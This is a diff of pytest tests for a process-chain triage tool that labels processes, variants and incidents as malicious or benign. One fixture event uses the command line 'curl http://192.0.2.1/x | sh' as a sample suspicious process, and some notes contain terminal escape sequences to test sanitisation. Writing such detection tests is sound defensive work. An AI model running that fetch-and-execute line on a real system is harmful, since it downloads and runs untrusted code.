@@ -5,6 +5,7 @@ from __future__ import annotations
 import csv
 import io
 import json
+from collections import Counter
 from collections.abc import Callable
 
 import pytest
@@ -12,6 +13,7 @@ import pytest
 from store.workspace import open_workspace
 from tests.store.samples import event, fill, score
 from tests.tui.home import Home
+from tui.words.words import many
 
 
 def verdict_of(home: Home, rank: str = "1") -> str | None:
@@ -54,57 +56,67 @@ def said(home: Home) -> dict[tuple[str, str], tuple[str, str]]:
 
 
 @pytest.mark.parametrize(
-    ("answer", "more", "labelled"),
-    [
-        ("n\n", (), 0), ("\n", (), 2), ("y\n", (), 2), ("what\na\n", (), "prefix"),
-        ("n\n", ("--all",), 0), ("y\n", ("--all",), "prefix"),
-    ],
+    ("answer", "given"), [("n\n", None), ("\n", None), ("y\n", "prefix"), ("what\na\n", "process")]
 )  # fmt: skip
-def test_many_processes_are_asked_about_on_a_terminal(
-    home: Home, monkeypatch: pytest.MonkeyPatch, answer: str, more: tuple[str, ...], labelled: int | str
+def test_what_is_much_is_asked_about_on_a_terminal(
+    home: Home, monkeypatch: pytest.MonkeyPatch, answer: str, given: str | None
 ) -> None:
+    """Enter is no. All that is meant is one verdict on what begins alike, a part of it one on each process."""
     monkeypatch.setattr("tui.shell.console.Output.interactive", property(lambda _self: True))
-    asked = home.run(*WHOLE, *more, input=answer)
-    question = "[y/N]" if more else "[Y/a/n]"
-    assert asked.stderr.index("covers 72 processes") < asked.stderr.index(question)
-    assert ("only the 2 chains above the threshold" in asked.stderr) == (not more)
+    asked = home.run(*WHOLE, input=answer)
+    assert asked.stderr.index("covers 72 processes") < asked.stderr.index("[y/a/N]")
+    assert "only the 15 above the threshold (a)" in asked.stderr
     found = said(home)
-    assert ("Nothing was changed." in asked.stderr) == (labelled == 0)
-    assert len(found) == (1 if labelled == "prefix" else labelled)
-    assert {scope for _, scope in found} == ({"prefix:1"} if labelled == "prefix" else {""} if labelled else set())
+    assert ("Nothing was changed." in asked.stderr) == (given is None)
+    assert {scope.partition(":")[0] for _, scope in found} == ({given} if given else set())
+    assert len(found) == {None: 0, "prefix": 1, "process": 15}[given]
+
+
+def test_the_part_above_the_threshold_can_be_asked_for(home: Home) -> None:
+    """On one host and fewer than fifty: that is no question."""
+    assert home.run(*WHOLE, "--above").exit_code == 0
+    assert [scope.partition(":")[0] for _, scope in said(home)] == ["process"] * 15
 
 
 def test_no_question_is_asked_where_it_was_answered_or_little_is_covered(home: Home, monkeypatch: pytest.MonkeyPatch) -> None:
     monkeypatch.setattr("tui.shell.console.Output.interactive", property(lambda _self: True))
     done = home.run(*WHOLE, "--yes")
     assert (done.exit_code, "/n]" in done.stderr.lower()) == (0, False)
-    assert [verdict for verdict, _ in said(home).values()] == ["malicious", "malicious"]
+    assert [verdict for verdict, _ in said(home).values()] == ["malicious"]
     assert "/n]" not in home.run("label", "1", "benign").stderr.lower()
     assert sorted(verdict for verdict, _ in said(home).values()) == ["benign", "malicious"]
 
 
-def test_without_a_terminal_many_processes_need_a_yes(home: Home) -> None:
+def test_without_a_terminal_what_is_much_needs_a_yes(home: Home) -> None:
     done = home.run(*WHOLE)
     assert done.exit_code == 2
-    assert "72 processes (more than 50)" in done.stderr
+    assert "72 processes on 1 host (more than 50), 57 of them below the threshold, is asked about" in done.stderr
     assert "nothing was labelled" in done.stderr
-    assert "--yes labels the 2 chains above the threshold, --yes --all all of them." in done.stderr
+    assert "--yes labels them; --yes --above only the 15 above it." in done.stderr
     assert said(home) == {}
     assert home.run(*WHOLE, "--dry-run").exit_code == 0
     assert said(home) == {}
-    assert home.run(*WHOLE, "--yes", "--all").exit_code == 0
+    assert home.run(*WHOLE, "--yes").exit_code == 0
     assert {scope for _, scope in said(home)} == {"prefix:1"}
 
 
-def test_where_nothing_is_above_the_threshold_a_yes_is_not_enough(home: Home) -> None:
+def test_little_that_is_mostly_below_the_threshold_needs_a_yes_too(home: Home) -> None:
+    done = home.run("label", "3", "benign")
+    assert done.exit_code == 2
+    assert "14 processes on 1 host, 14 of them below the threshold, is asked about" in done.stderr
+    assert "--above" not in done.stderr
+    assert home.run("label", "3", "benign", "--yes").exit_code == 0
+    assert [verdict for verdict, _ in said(home).values()] == ["benign"]
+
+
+def test_where_nothing_is_above_the_threshold_that_part_is_nothing(home: Home) -> None:
     workspace = open_workspace(home.workspace)
     score(workspace, flagged=0, model=home.model)
     workspace.close()
-    for more in ((), ("--yes",)):
-        done = home.run(*WHOLE, *more)
-        assert (done.exit_code, "--yes --all" in done.stderr) == (2, True)
-        assert said(home) == {}
-    assert home.run(*WHOLE, "--yes", "--all").exit_code == 0
+    done = home.run(*WHOLE, "--yes", "--above")
+    assert (done.exit_code, "None of them is above the threshold. Nothing was changed." in done.stderr) == (0, True)
+    assert said(home) == {}
+    assert home.run(*WHOLE, "--yes").exit_code == 0
     assert len(said(home)) == 1
 
 
@@ -118,53 +130,141 @@ def grouped(home: Home) -> tuple[Home, list[str]]:
     return home, keys
 
 
+def verdicts(home: Home, reference: str = "F1") -> dict[str, str | None]:
+    """Process -> the verdict that counts for it, of what an incident covers."""
+    told = json.loads(home.run("show", reference, "--format", "json").stdout)["incident"]
+    return {process["process"]: process["verdict"] for process in told["covered"]}
+
+
+def _are(count: int) -> str:
+    return f"{count} {'is' if count == 1 else 'are'}"
+
+
 def test_a_verdict_on_a_finding_leaves_what_is_decided_and_every_note(grouped: tuple[Home, list[str]]) -> None:
     home, keys = grouped
-    assert len(keys) > 3
     home.run("label", keys[0], "benign", "--note", "admins do this")
-    home.run("label", keys[1], "undetermined", "--note", "ask ann")
+    home.run("label", keys[1], "undetermined", "--note", "ask ann", "--yes")
     kept = said(home)
-    done = home.run("label", "F1", "malicious", "--yes", "--all")
+    before = verdicts(home)
+    counted = Counter(before.values())
+    assert (counted["benign"], counted["undetermined"] > 0, counted[None] > 0) == (1, True, True)
+    told = f"1 is benign, {_are(counted['undetermined'])} undetermined"
+    done = home.run("label", "F1", "malicious", "--yes")
     assert done.exit_code == 0
-    assert "2 decided chains skipped (--overwrite includes what is decided)." in done.stderr
-    found = said(home)
-    assert {at: found[at] for at in kept} == kept
-    assert {verdict for verdict, _ in found.values()} == {"benign", "undetermined", "malicious"}
-    assert len(found) == len(keys)
+    assert f"{told} already and left as they are (--overwrite includes them)." in done.stderr
+    assert f"That leaves {many(counted[None], 'process', 'processes')} on 1 host." in done.stderr
+    assert {at: found for at, found in said(home).items() if at in kept} == kept
+    assert verdicts(home) == {process: verdict or "malicious" for process, verdict in before.items()}
     home.run("labels", "undo")
-    assert said(home) == kept
-    again = home.run("label", "F1", "malicious", "--yes", "--all", "--overwrite")
-    assert "skipped" not in again.stderr
-    assert said(home) == {(key, ""): ("malicious", kept.get((key, ""), ("", ""))[1]) for key in keys}
-    noted = home.run("label", "F1", "malicious", "--yes", "--all", "--overwrite", "--note", "one campaign")
-    assert "2 notes were replaced; `oddkin labels history` has what was written." in noted.stderr
-    assert {note for _, note in said(home).values()} == {"one campaign"}
-    assert "ask ann" in home.run("labels", "history").stdout
+    assert (said(home), verdicts(home)) == (kept, before)
+    again = home.run("label", "F1", "malicious", "--yes", "--overwrite")
+    assert f"{told} now; that is replaced." in again.stderr
+    assert set(verdicts(home).values()) == {"malicious"}
+    noted = home.run("label", "F1", "malicious", "--yes", "--overwrite", "--note", "one campaign")
+    assert noted.exit_code == 0
+    renoted = home.run("label", "F1", "malicious", "--yes", "--overwrite", "--note", "two campaigns")
+    assert f"{len(before)} notes were replaced; `oddkin labels history` has what was written." in renoted.stderr
+    assert "one campaign" in home.run("labels", "history").stdout
 
 
 def test_a_finding_that_is_decided_is_left_alone(grouped: tuple[Home, list[str]]) -> None:
-    home, keys = grouped
-    home.run("label", "F1", "benign", "--yes", "--all")
-    done = home.run("label", "F1", "malicious", "--yes", "--all")
+    home, _ = grouped
+    size = len(verdicts(home))
+    home.run("label", "F1", "benign", "--yes")
+    done = home.run("label", "F1", "malicious", "--yes")
     assert (done.exit_code, "Nothing was changed." in done.stderr) == (0, True)
-    assert f"{len(keys)} decided chains skipped" in done.stderr
-    assert {verdict for verdict, _ in said(home).values()} == {"benign"}
-    assert home.run("label", "F1", "none", "--yes", "--all").exit_code == 0
+    assert f"{size} are benign already and left as they are" in done.stderr
+    assert set(verdicts(home).values()) == {"benign"}
+    cleared = home.run("label", "F1", "none", "--yes")
+    assert (cleared.exit_code, f"Taken away from {size} processes." in cleared.stderr) == (0, True)
     assert said(home) == {}
+
+
+def test_what_counts_still_when_a_verdict_is_taken_away_is_said(grouped: tuple[Home, list[str]]) -> None:
+    home, keys = grouped
+    home.run("label", keys[1], "benign", "--yes")
+    counted = Counter(verdicts(home).values())
+    home.run("label", "F1", "malicious", "--yes")
+    cleared = home.run("label", "F1", "none", "--yes")
+    assert f"Taken away from {many(counted[None], 'process', 'processes')}." in cleared.stderr
+    assert (
+        f"{_are(counted['benign'])} benign still, by a verdict on their chain, a variant, a beginning or themselves"
+        in cleared.stderr
+    )
+    assert set(said(home)) == {(keys[1], "")}
+
+
+def test_a_process_that_was_named_is_labelled_and_no_other(grouped: tuple[Home, list[str]]) -> None:
+    home, _ = grouped
+    first, second, *_ = verdicts(home)
+    done = home.run("label", second.lower(), "malicious", "--author", "ada")
+    assert f"process {second} malicious: covers 1 process on 1 host in 1 chain" in done.stderr
+    found = verdicts(home)
+    assert [process for process, verdict in found.items() if verdict] == [second]
+    replaced = home.run("label", second, "benign")
+    assert "It is malicious now; that is replaced." in replaced.stderr
+    assert verdicts(home)[second] == "benign"
+    assert home.run("label", "P99999", "benign").exit_code == 1
+    assert home.run("label", first, "benign", "--host", "WEB01").exit_code == 2
+    assert home.run("label", "F1", "benign", "--prefix", "1", "--yes").exit_code == 2
+
+
+def test_a_variant_is_labelled_and_not_the_rest_of_its_chain(home: Home) -> None:
+    workspace = open_workspace(home.workspace)
+    lines = ["run --quiet", "run --quiet", "curl http://192.0.2.1/x | sh"]
+    more = [event(2000 + place, image="C:\\v\\v.exe", command_line=line) for place, line in enumerate(lines)]
+    fill(workspace, more, path="more.json", sha256="c" * 64)
+    score(workspace, model=home.model, grouped=True)
+    chain = next(row for row in workspace.queue.page("case", limit=500) if row.steps[-1].endswith("v.exe"))
+    workspace.close()
+    listed = csv.DictReader(io.StringIO(home.run("processes", "v.exe", "--format", "csv").stdout))
+    of_line: dict[str, list[tuple[str, str]]] = {}
+    for row in listed:
+        of_line.setdefault(row["command_line"], []).append((row["process"], row["variant"]))
+    (odd, _), (quiet, shape) = of_line[lines[2]][0], of_line[lines[0]][1]
+    assert f"variant {shape} of chain {chain.key[:10]}" in home.run("label", quiet, "benign", "--variant", "--yes").stderr
+    assert {scope for _, scope in said(home)} == {f"variant:{shape}"}
+    held = json.loads(home.run("show", quiet, "--format", "json").stdout)["verdict"]
+    assert (held, json.loads(home.run("show", odd, "--format", "json").stdout)["verdict"]) == ("benign", None)
+    home.run("labels", "undo")
+    assert home.run("label", chain.key, "benign", "--shape", shape[:6], "--yes").exit_code == 0
+    assert {scope for _, scope in said(home)} == {f"variant:{shape}"}
+    absent = home.run("label", chain.key, "benign", "--shape", "0000000000000001")
+    assert (absent.exit_code, "has no variant" in absent.stderr) == (1, True)
+    assert home.run("label", chain.key, "benign", "--shape", "xyz").exit_code == 2
+    assert home.run("label", chain.key, "benign", "--variant", "--host", "WEB01").exit_code == 2
+
+
+def test_what_an_act_was_on_is_told_in_one_line(grouped: tuple[Home, list[str]]) -> None:
+    home, keys = grouped
+    home.run("label", keys[0], "benign", "--author", "ada")
+    process = next(process for process, verdict in verdicts(home).items() if verdict is None)
+    home.run("label", process, "malicious", "--author", "ada", "--note", "odd \x1b[2J one")
+    rest = f"({many(Counter(verdicts(home).values())[None], 'process', 'processes')})"
+    home.run("label", "F1/1", "undetermined", "--yes", "--author", "ada")
+    listed = [line.split("  ", 1)[1] for line in home.run("labels", "list").stdout.splitlines()]
+    assert listed == [
+        f"{keys[0][:10]}  benign  ada", f"{process}  malicious  ada  odd \\e[2J one", f"F1/1  undetermined {rest}  ada",
+    ]  # fmt: skip
+    told = home.run("labels", "undo", "--author", "ada").stdout.splitlines()
+    assert [line.split("  ", 1)[1] for line in told] == [f"undo  F1/1  undetermined -> none {rest}  ada"]
+    history = [line.split("  ", 1)[1] for line in home.run("labels", "history", "--limit", "3").stdout.splitlines()]
+    assert history == [
+        f"set   {process}  none -> malicious  ada  odd \\e[2J one", f"set   F1/1  none -> undetermined {rest}  ada",
+        f"undo  F1/1  undetermined -> none {rest}  ada",
+    ]  # fmt: skip
 
 
 def test_what_begins_alike_keeps_narrower_verdicts_unless_they_are_asked_for(grouped: tuple[Home, list[str]]) -> None:
     home, keys = grouped
     home.run("label", keys[0], "benign", "--note", "mine")
-    prefix = ("label", keys[0], "malicious", "--prefix", "1", "--yes", "--all")
-    assert "1 decided chain keeping a verdict of its own" in home.run(*prefix).stderr
+    prefix = ("label", keys[0], "malicious", "--prefix", "1", "--yes")
+    assert "1 is benign already and left as they are" in home.run(*prefix).stderr
     assert said(home)[keys[0], ""] == ("benign", "mine")
+    assert sorted(set(verdicts(home).values())) == ["benign", "malicious"]
     home.run("labels", "undo")
     home.run(*prefix, "--overwrite")
     assert said(home) == {(keys[0], ""): ("malicious", "mine"), (keys[0], "prefix:1"): ("malicious", "")}
-    assert (
-        "keeping a verdict" not in home.run("label", keys[0], "benign", "--prefix", "1", "--yes", "--all", "--overwrite").stderr
-    )
 
 
 def test_a_single_verdict_says_what_it_replaces_and_keeps_the_note(home: Home) -> None:
@@ -213,7 +313,7 @@ def test_digits_that_are_no_rank_are_the_beginning_of_a_key(home: Home) -> None:
     keys = [row.key for row in workspace.queue.page("case", limit=500)]
     workspace.close()
     key = next(key for key in keys if key[:4].isdecimal() and int(key[:4]) > 500 and sum(k[:4] == key[:4] for k in keys) == 1)
-    done = home.run("label", key[:4], "malicious")
+    done = home.run("label", key[:4], "malicious", "--yes")
     assert done.exit_code == 0
     assert f"no rank {key[:4]}" in done.stderr
     assert key[:10] in done.stderr
@@ -294,7 +394,7 @@ def test_too_few_chains_is_no_usage_error_and_no_dead_end(home: Home, second_cas
 
 def test_show_names_every_verdict_that_concerns_a_chain(home: Home) -> None:
     key = json.loads(home.run("rank", "--chains", "--format", "json", "--limit", "1").stdout)[0]["chain_id"]
-    home.run("label", key, "benign", "--prefix", "1", "--note", "all of \x1b it", "--author", "ada", "--yes", "--all")
+    home.run("label", key, "benign", "--prefix", "1", "--note", "all of \x1b it", "--author", "ada", "--yes")
     home.run("label", key, "malicious", "--host", "WEB01", "--author", "eve")
     told = home.run("show", key).stdout
     assert "Verdict on host web01: ! malicious by eve" in told
